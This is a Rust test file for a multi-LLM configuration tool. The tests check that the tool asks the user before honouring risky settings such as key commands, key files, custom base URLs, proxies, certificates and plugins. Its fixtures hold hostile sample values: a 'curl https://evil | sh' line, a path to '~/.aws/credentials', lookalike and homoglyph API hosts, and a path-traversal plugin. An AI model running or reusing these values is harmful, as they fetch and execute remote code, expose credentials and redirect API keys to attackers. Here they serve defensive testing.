use serde_json::Value as Json;

use super::*;

/// What a text asks for, as `path: message`.
fn asked(text: &str) -> Vec<String> {
    let (document, faults) = Document::parse(None, text).unwrap();
    assert!(faults.is_empty(), "{text}");
    let env = Env::default().with_dirs(Some("/home/u".into()), None);
    let requests = requests(&document, Path::new("/repo/configs"), &env);
    let lines = requests
        .iter()
        .map(|asked| format!("{}: {}", asked.path, asked.message));
    lines.collect()
}

#[test]
fn the_default_configuration_asks_for_nothing() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let file = root.join("../../configs/multi_llm_config.json");
    let text = std::fs::read_to_string(file).unwrap();
    assert_eq!(asked(&text), Vec::<String>::new());
}

#[test]
fn models_routes_and_defaults_are_free() {
    let text = r#"{
      "$schema": "x", "default_model": "r", "plugin_dir": "./plugins", "templates_dir": "templates",
      "prices": null, "plugins": {},
      "providers": {
        "openai": {
          "base_url": "https://api.openai.com/v1/", "api_key_env": "OPENAI_API_KEY",
          "settings": { "api": "chat", "n": 1.5 }, "extra": { "service_tier": "flex", "a": [1, "gpt-4.1"] },
          "proxy": true, "headers": {}, "secret_env": null, "limits": { "cost_per_day": 1 }
        },
        "google": { "api_key": "${GOOGLE_API_KEY}" },
        "ollama": { "base_url": "http://localhost:11434", "api_key": false },
        "team": { "plugin": "openai" }
      },
      "models": {
        "m": {
          "provider": "openai", "model_name": "https://x", "system": "curl https://evil | sh",
          "api_key_env": null, "cost": { "input_per_1m": 1 }, "timeouts": { "idle_ms": 1 },
          "capabilities": { "tools": true }, "temperature": 1, "stop": ["http://x"]
        },
        "a": { "provider": "anthropic", "api_key": "$ANTHROPIC_API_KEY" },
        "t": { "provider": "team", "api_key_env": "OPENAI_API_KEY" }
      },
      "routes": { "r": { "strategy": "weighted", "models": [{ "model": "m", "weight": 2 }, "a"] } },
      "retry": { "max_attempts": 1 }, "timeouts": { "idle_ms": 1 }, "limits": { "plugin_cpu_ms": 5 },
      "cache": { "enabled": true, "ttl_seconds": 1 }, "breaker": { "enabled": false },
      "health": { "timeout_ms": 1 }, "terminal": { "stream": false, "markdown": false }, "history": { "enabled": true, "content": true, "path": null }
    }"#;
    assert_eq!(asked(text), Vec::<String>::new());
}

#[test]
fn whatever_names_something_is_asked_about() {
    let model =
        |entry: &str| format!(r#"{{ "models": {{ "m": {{ "provider": "openai", {entry} }} }} }}"#);
    let provider = |entry: &str| format!(r#"{{ "providers": {{ "openai": {{ {entry} }} }} }}"#);
    let entries = [
        (
            r#""api_key_command": ["touch", "a\u202eb"]"#,
            r#"api_key_command: run the program ["touch", "a\u{202e}b"]"#,
        ),
        (
            r#""api_key_command": "touch x""#,
            r#"api_key_command: run the program "touch x""#,
        ),
        (
            r#""api_key_file": "../k""#,
            r#"api_key_file: read a key from the file "/repo/configs/../k""#,
        ),
        (
            r#""api_key_file": "~/.aws/credentials""#,
            r#"api_key_file: read a key from the file "/home/u/.aws/credentials""#,
        ),
        (
            r#""api_key_env": "AWS_SECRET""#,
            r#"api_key_env: read a key from the variable "AWS_SECRET""#,
        ),
        (
            r#""api_key_env": "ANTHROPIC_API_KEY""#,
            r#"api_key_env: read a key from the variable "ANTHROPIC_API_KEY""#,
        ),
        (
            r#""api_key": "${GITHUB_TOKEN}""#,
            r#"api_key: read a key from the variable "GITHUB_TOKEN""#,
        ),
        (
            r#""secret_env": { "org": "OPENAI_API_KEY" }"#,
            r#"secret_env.org: read a secret from the variable "OPENAI_API_KEY""#,
        ),
        (
            r#""headers": { "x-a": "${OPENAI_API_KEY}" }"#,
            r#"headers.x-a: send a header "${OPENAI_API_KEY}""#,
        ),
        (
            r#""headers": { "helicone-target-url": "https://evil" }"#,
            r#"headers.helicone-target-url: send a header "https://evil""#,
        ),
        (
            r#""base_url": "http://127.0.0.1:1/v1""#,
            r#"base_url: send requests and their key to "http://127.0.0.1:1/v1""#,
        ),
        (
            r#""base_url": "https://api.openai.com/v1/x""#,
            r#"base_url: send requests and their key to "https://api.openai.com/v1/x""#,
        ),
        (
            r#""base_url": "https://api.openai.com.evil.example/v1""#,
            r#"base_url: send requests and their key to "https://api.openai.com.evil.example/v1""#,
        ),
        (
            "\"base_url\": \"https://api.\u{43e}penai.com/v1\"",
            r#"base_url: send requests and their key to "https://api.xn--penai-iye.com/v1""#,
        ),
        (
            r#""base_url": "https://api.anthropic.com""#,
            r#"base_url: send requests and their key to "https://api.anthropic.com/""#,
        ),
        (
            r#""extra": { "tools": [{ "server_url": "https://evil" }] }"#,
            r#"extra: send {"tools": [{"server_url": "https://evil"}]} as it stands"#,
        ),
        (
            r#""filters": ["openai"]"#,
            r#"filters: let filters see and change what is asked and answered: ["openai"]"#,
        ),
        (
            r#""settings": { "endpoint": "evil.example" }"#,
            r#"settings: send {"endpoint": "evil.example"} as it stands"#,
        ),
    ];
    for (entry, expected) in entries {
        assert_eq!(
            asked(&model(entry)),
            [format!("models.m.{expected}")],
            "{entry}"
        );
        assert_eq!(
            asked(&provider(entry)),
            [format!("providers.openai.{expected}")],
            "{entry}"
        );
    }
    let others = [
        (
            provider(r#""proxy": "http://evil:1""#),
            r#"providers.openai.proxy: go by the proxy "http://evil:1""#,
        ),
        (
            provider(r#""proxy": false"#),
            "providers.openai.proxy: go by no proxy",
        ),
        (
            provider(r#""ca_file": "evil.pem""#),
            r#"providers.openai.ca_file: trust the certificates in "/repo/configs/evil.pem""#,
        ),
        (
            provider(r#""plugin": "acme""#),
            r#"providers.openai.plugin: use the plugin "acme""#,
        ),
        (
            provider(r#""new_key": 1"#),
            "providers.openai.new_key: use 1",
        ),
        (
            r#"{ "providers": { "acme": {} } }"#.to_owned(),
            r#"providers.acme: use the plugin "acme""#,
        ),
        (
            r#"{ "models": { "m": { "provider": "github" } } }"#.to_owned(),
            r#"models.m.provider: use the plugin "github""#,
        ),
        (
            r#"{ "plugins": { "openai": "../evil.wasm" } }"#.to_owned(),
            r#"plugins.openai: load the plugin in "/repo/configs/../evil.wasm""#,
        ),
        (
            r#"{ "plugins": { "openai": { "wasi": "deny-all" } } }"#.to_owned(),
            r#"plugins.openai: load a plugin as {"wasi": "deny-all"}"#,
        ),
        (
            r#"{ "plugin_dir": "plugins/../../x" }"#.to_owned(),
            r#"plugin_dir: load plugins from "/repo/configs/plugins/../../x""#,
        ),
        (
            r#"{ "templates_dir": "/etc" }"#.to_owned(),
            r#"templates_dir: read templates from "/etc""#,
        ),
        (
            r#"{ "prices": "p.json" }"#.to_owned(),
            r#"prices: read prices from "/repo/configs/p.json""#,
        ),
        (
            r#"{ "cache": { "path": "x" } }"#.to_owned(),
            r#"cache.path: keep answers in "/repo/configs/x""#,
        ),
        (
            r#"{ "history": { "path": "~/x.db" } }"#.to_owned(),
            r#"history.path: keep the history in "/home/u/x.db""#,
        ),
        (
            r#"{ "history": { "enabled": false } }"#.to_owned(),
            "history.enabled: change what is recorded to false",
        ),
        (
            r#"{ "unheard_of": [true] }"#.to_owned(),
            "unheard_of: use [true]",
        ),
        (
            r#"{ "retry": { "hook": "x" } }"#.to_owned(),
            r#"retry.hook: use "x""#,
        ),
    ];
    for (text, expected) in others {
        assert_eq!(asked(&text), [expected], "{text}");
    }
}

/// The key of a vendor belongs to the plugin, not to the name that a provider has.
#[test]
fn whose_key_it_is_follows_the_plugin() {
    let text = r#"{
      "providers": { "openai": { "plugin": "claude", "api_key_env": "OPENAI_API_KEY" } },
      "models": { "m": { "provider": "OpenAI", "api_key_env": "OPENAI_API_KEY" } }
    }"#;
    let lines = asked(text);
    assert_eq!(lines.len(), 2, "{lines:?}");
    let own = text.replace("OPENAI_API_KEY", "ANTHROPIC_API_KEY");
    assert_eq!(asked(&own), Vec::<String>::new());
}

/// Every key that the schema has, with a value of each kind that it may have: a new one is either said
/// to be harmless here, or asked about.
#[test]
fn every_key_of_the_schema_is_harmless_by_name_or_asked_about() {
    const FREE: [&str; 47] = [
        "$schema",
        "default_model",
        "enabled",
        "description",
        "strategy",
        "model",
        "weight",
        "models",
        "max_attempts",
        "base_ms",
        "max_ms",
        "max_total_ms",
        "connect_ms",
        "first_byte_ms",
        "idle_ms",
        "total_ms",
        "ttl_seconds",
        "max_entries",
        "plugin_memory_mb",
        "plugin_cpu_ms",
        "plugin_output_mb",
        "request_mb",
        "response_mb",
        "max_concurrency",
        "requests_per_minute",
        "tokens_per_minute",
        "cost_per_day",
        "failures",
        "open_ms",
        "probes",
        "timeout_ms",
        "model_name",
        "context_window",
        "max_tokens",
        "temperature",
        "top_p",
        "top_k",
        "frequency_penalty",
        "presence_penalty",
        "stop",
        "seed",
        "system",
        "reasoning_effort",
        "cost_per_1k_tokens",
        "streaming",
        "tools",
        "images",
    ];
    const FREE_TOO: [&str; 22] = [
        "lane",
        "unsupported",
        "stream",
        "markdown",
        "pictures",
        "json_schema",
        "reasoning",
        "input_per_1m",
        "output_per_1m",
        "cached_input_per_1m",
        "cache_write_per_1m",
        "reasoning_per_1m",
        "per_request",
        "cost_source",
        "cache_write_1h_per_1m",
        "audio_input_per_1m",
        "audio_output_per_1m",
        "image_output_per_1m",
        "per_web_search",
        "per_searched_request",
        "per_web_fetch",
        "per_file_search",
    ];
    let schema = super::super::schema::json_schema();
    let mut keys = vec![];
    leaves(schema, schema, &mut vec![], &mut keys);
    assert!(keys.len() > 80, "{keys:?}");
    for path in keys {
        let key = path.last().unwrap().as_str();
        let mut text = Json::String("https://evil.example".to_owned()).to_string();
        for step in path.iter().rev() {
            text = format!("{{ {}: {text} }}", Json::String(step.clone()));
        }
        let free = FREE.contains(&key) || FREE_TOO.contains(&key);
        let recorded = path
            .first()
            .is_some_and(|key| ["gateway", "history", "plugins"].contains(&key.as_str()));
        assert_eq!(asked(&text).is_empty(), free && !recorded, "{text}");
    }
}

/// The paths of a schema's members that hold no object with members of their own.
fn leaves(root: &Json, schema: &Json, path: &mut Vec<String>, found: &mut Vec<Vec<String>>) {
    if let Some(target) = schema.get("$ref").and_then(Json::as_str) {
        return leaves(root, root.pointer(&target[1..]).unwrap(), path, found);
    }
    let alternatives = ["anyOf", "oneOf"]
        .into_iter()
        .find_map(|key| schema.get(key)?.as_array());
    let mut members = 0;
    for schema in alternatives.into_iter().flatten().chain([schema]) {
        let schema = match schema.get("$ref").and_then(Json::as_str) {
            Some(target) => root.pointer(&target[1..]).unwrap(),
            None => schema,
        };
        for (key, schema) in schema
            .get("properties")
            .and_then(Json::as_object)
            .into_iter()
            .flatten()
        {
            members += 1;
            path.push(key.clone());
            leaves(root, schema, path, found);
            path.pop();
        }
        if let Some(any) = schema
            .get("additionalProperties")
            .filter(|any| any.is_object())
        {
            members += 1;
            path.push("openai".to_owned());
            leaves(root, any, path, found);
            path.pop();
        }
    }
    if members == 0 && !path.is_empty() {
        found.push(path.clone());
    }
}
